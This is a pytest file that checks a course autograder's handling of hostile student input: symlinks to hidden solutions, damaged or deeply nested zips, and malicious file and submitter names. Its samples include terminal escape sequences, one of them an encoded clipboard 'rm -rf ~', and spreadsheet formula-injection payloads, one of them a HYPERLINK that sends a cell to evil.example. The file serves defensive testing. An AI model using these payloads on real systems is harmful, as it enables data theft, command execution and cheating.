"""Student-controlled names and files on their way in: Gradescope submission folders, the zips and
folders `grade batch` reads, and the gradebook it writes. Each test is an attack a student could
make through a file they hand in or a name they choose."""
from __future__ import annotations

import csv
import hashlib
import io
import json
import time
import tracemalloc
import zipfile
from pathlib import Path
from types import SimpleNamespace

import pytest

from grader.errors import UsageError
from grader.exercise import load
from grader.results import validate
from grader.staff import gradescope
from grader.staff.batch import intake, record

ROOT = Path(__file__).resolve().parent.parent
LEVEL2 = ROOT / "exercises" / "level2"
SOLUTION = ROOT / "reference" / "level2" / "solution.cu"
CONTROL = [chr(c) for c in range(32) if chr(c) not in "\t"] + ["\x7f", "\u202e"]


def has_control(text: str) -> bool:
    return any(ch in text for ch in CONTROL)


# --------------------------------------------------------------------------------------------- Gradescope: links

def linked_submission(tmp_path: Path, target: Path, name: str = "submission.cu") -> Path:
    """/autograder/submission holding one link, `name`, to `target`."""
    folder = tmp_path / "submission"
    folder.mkdir()
    (folder / name).symlink_to(target)
    return folder


@pytest.mark.parametrize("name", ["submission.cu", "kernel.cu", "notebook.ipynb"])
def test_a_link_out_of_the_submission_folder_is_never_graded(tmp_path, name):
    # On Gradescope the reference solution, the hidden tests and bundle.json (the course secret) sit
    # at known paths beside the submission; a link to one would be graded, or quoted back in a
    # compile error, line by line.
    secret = tmp_path / "source" / "reference" / "solution.cu"
    secret.parent.mkdir(parents=True)
    secret.write_text(SOLUTION.read_text())
    choice = gradescope.choose_submission(linked_submission(tmp_path, secret, name), "submission.cu")
    assert choice.source is None
    assert "Links to files outside your submission are not graded" in choice.problem and name in choice.problem


def test_a_file_reached_through_a_linked_folder_is_never_graded(tmp_path):
    outside = tmp_path / "source" / "exercises"
    outside.mkdir(parents=True)
    (outside / "submission.cu").write_text(SOLUTION.read_text())
    folder = tmp_path / "submission"
    folder.mkdir()
    (folder / "src").symlink_to(outside, target_is_directory=True)
    assert gradescope.choose_submission(folder, "submission.cu").source is None


def test_a_link_within_the_submission_is_graded_and_a_link_out_beside_it_is_named(tmp_path):
    # A GitHub repository may link submission.cu to its real place in the repository.
    folder = tmp_path / "submission"
    (folder / "src").mkdir(parents=True)
    (folder / "src" / "kernel.cu").write_text("// mine\n")
    (folder / "submission.cu").symlink_to(Path("src") / "kernel.cu")
    (folder / "answers.cu").symlink_to(SOLUTION)
    choice = gradescope.choose_submission(folder, "submission.cu")
    assert choice.source == folder / "submission.cu"
    assert "answers.cu" in choice.note and "not graded" in choice.note


def test_the_autograder_writes_a_verdict_for_a_link_to_the_reference(tmp_path):
    config = tmp_path / "source" / "bundle.json"
    config.parent.mkdir()
    config.write_text(json.dumps({"exercise": str(LEVEL2), "filename": "submission.cu", "timeout": 120, "backend": "emu"}))
    linked_submission(tmp_path, SOLUTION)
    document = gradescope.run_autograder(config, tmp_path)
    validate(document)
    assert document["score"] == 0 and "Links to files outside your submission" in document["tests"][0]["output"]
    assert json.loads((tmp_path / "results" / "results.json").read_text())["score"] == 0


def test_file_names_cannot_add_lines_to_the_gradescope_report(tmp_path):
    folder = tmp_path / "submission"
    folder.mkdir()
    (folder / "submission.cu").write_text("// mine\n")
    (folder / "x\n\n**kernel**: 100 of 100\x1b[2J.cu").write_text("// other\n")
    choice = gradescope.choose_submission(folder, "submission.cu")
    assert choice.source == folder / "submission.cu" and "ignored" in choice.note and not has_control(choice.note)
    (folder / "submission.cu").unlink()
    choice = gradescope.choose_submission(folder, "submission.cu")
    assert choice.source is not None and not has_control(choice.note)


# --------------------------------------------------------------------------------------------- grade batch: zips

def test_a_member_that_cannot_be_unpacked_costs_only_its_student(tmp_path):
    archive = tmp_path / "export.zip"
    damaged = b"// half a kernel\n" * 100
    with zipfile.ZipFile(archive, "w", compression=zipfile.ZIP_STORED) as zf:
        zf.writestr("submission_1/kernel.cu", "// fine\n")
        zf.writestr("submission_2/x", "a file where a folder is wanted")
        zf.writestr("submission_2/x/kernel.cu", "// unreachable\n")
        zf.writestr("submission_3/" + "k" * 300 + ".cu", "// a name too long for the disk\n")
        zf.writestr("submission_4/kernel.cu", damaged)
    # Stored, not compressed: its last byte changed, the CRC check fails once all of it has been read.
    raw = bytearray(archive.read_bytes())
    raw[raw.index(damaged) + len(damaged) - 1] ^= 0xFF
    archive.write_bytes(bytes(raw))
    entries = {e.student: e for e in intake.collect(archive, tmp_path / "scratch")}
    assert sorted(entries) == ["submission_1", "submission_2", "submission_3", "submission_4"]
    assert entries["submission_1"].source is not None
    for student, words in (("submission_2", "x/kernel.cu"), ("submission_3", "file name too long"),
                           ("submission_4", "damaged")):
        entry = entries[student]
        assert entry.source is None and "could not be unpacked" in entry.problem and words in entry.problem, entry.problem
    # Nothing of the damaged member is left behind to be graded.
    assert not list((tmp_path / "scratch").rglob("submission_4/*.cu"))


def test_a_member_nested_too_deeply_to_unpack_costs_only_its_student(tmp_path):
    # Its folders are never made (each level is a call deeper), so its student's folder is missing
    # altogether: the zip must still not be taken for a wrapper around the one folder that remains.
    archive = tmp_path / "deep.zip"
    with zipfile.ZipFile(archive, "w") as zf:
        zf.writestr("submission_1/" + "a/" * 1200 + "kernel.cu", "// deep\n")
        zf.writestr("submission_2/kernel.cu", "// fine\n")
    entries = {e.student: e for e in intake.collect(archive, tmp_path / "scratch")}
    assert sorted(entries) == ["submission_1", "submission_2"]
    assert entries["submission_2"].source is not None
    assert entries["submission_1"].source is None and "nested too deeply" in entries["submission_1"].problem


def test_a_zip_that_cannot_be_read_is_a_usage_error(tmp_path):
    archive = tmp_path / "broken.zip"
    with zipfile.ZipFile(archive, "w") as zf:
        zf.writestr("alice.cu", "// a\n")
    raw = bytearray(archive.read_bytes())
    at = raw.rindex(b"PK\x01\x02")  # the central directory: damaged, while its end record (all is_zipfile reads) is fine
    raw[at:at + 2] = b"XX"
    archive.write_bytes(bytes(raw))
    assert zipfile.is_zipfile(archive)
    with pytest.raises(UsageError, match="not a zip that can be read"):
        intake.collect(archive, tmp_path / "scratch")


# --------------------------------------------------------------------------------------------- grade batch: names

def test_file_names_in_a_students_folder_are_shown_printable(tmp_path):
    subs = tmp_path / "subs"
    for student, names in (("ann", ["a\x1b]52;c;cm0gLXJmIH4=\x07.cu", "b\n**level2**: 100 of 100.cu"]),
                           ("ben", ["notes\r\x1b[2J.txt"])):
        (subs / student).mkdir(parents=True)
        for name in names:
            (subs / student / name).write_text("// x\n")
    entries = {e.student: e for e in intake.collect(subs, tmp_path / "scratch")}
    assert "exactly one" in entries["ann"].problem and "No .cu file" in entries["ben"].problem
    assert not has_control(entries["ann"].problem) and not has_control(entries["ben"].problem)


def test_an_ungraded_students_results_show_their_folder_name_printable(tmp_path):
    entry = intake.Entry("x", "evil\x1b[31m\nname", None, "No .cu file or notebook was submitted (found: nothing).")
    document = record.unsubmitted(SimpleNamespace(exercise=load(LEVEL2)), entry).document
    validate(document)
    assert not has_control(document["extra_data"]["submission"])
    assert document["extra_data"]["submission"] == "evil?[31m?name"


def test_gradebook_cells_never_start_a_formula(tmp_path):
    # Submitters' names come from Gradescope's export, and a student chooses their own name.
    names = ['=HYPERLINK("http://evil.example/?"&A3,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
             "\t=1+1", "Ada Lovelace <ada@example.edu> 77"]
    rows = [record.Row(f"s{i}", "graded", 10.0, {"Compiles": 10.0}, {"Compiles": 10.0}, 10.0, (), (name,))
            for i, name in enumerate(names)]
    path = record.write_csv(tmp_path / "grades.csv", rows)
    table = list(csv.reader(io.StringIO(path.read_text())))
    cells = [row[table[0].index("submitters")] for row in table[2:]]
    assert cells[:-1] == ["'" + name for name in names[:-1]]
    assert cells[-1] == names[-1]
    assert [row[1] for row in table[2:]] == ["10"] * len(names)  # numbers stay numbers


def test_a_huge_file_in_the_input_is_hashed_without_reading_it_whole(tmp_path):
    huge = tmp_path / "huge.cu"
    with open(huge, "wb") as f:
        f.truncate(64 * 1024 * 1024)  # sparse: no disk used
    tracemalloc.start()
    try:
        digest = intake.file_hash(huge)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert digest == hashlib.sha256(b"\0" * (64 * 1024 * 1024)).hexdigest()
    assert peak < 8 * 1024 * 1024


def test_a_file_that_cannot_be_read_is_fingerprinted_not_raised(tmp_path):
    # Gone between the listing and the hashing, or not readable: its grading says it cannot be read.
    assert intake.file_hash(tmp_path / "gone.cu") != intake.file_hash(tmp_path)


def test_a_name_of_blanks_in_gradescope_metadata_is_read_in_moments(tmp_path):
    root = tmp_path / "export"
    (root / "submission_1").mkdir(parents=True)
    (root / "submission_1" / "kernel.cu").write_text("// x\n")
    name = "Ada" + " " * 50_000 + "Lovelace"  # a student's own name, as Gradescope writes it out
    (root / "submission_metadata.yml").write_text(f"submission_1:\n  :submitters:\n  - :name: {name}   \n    :sid: '7'\n")
    started = time.perf_counter()
    entries = intake.collect(root, tmp_path / "scratch")
    assert time.perf_counter() - started < 2
    assert entries[0].submitters == (f"{name} 7",)
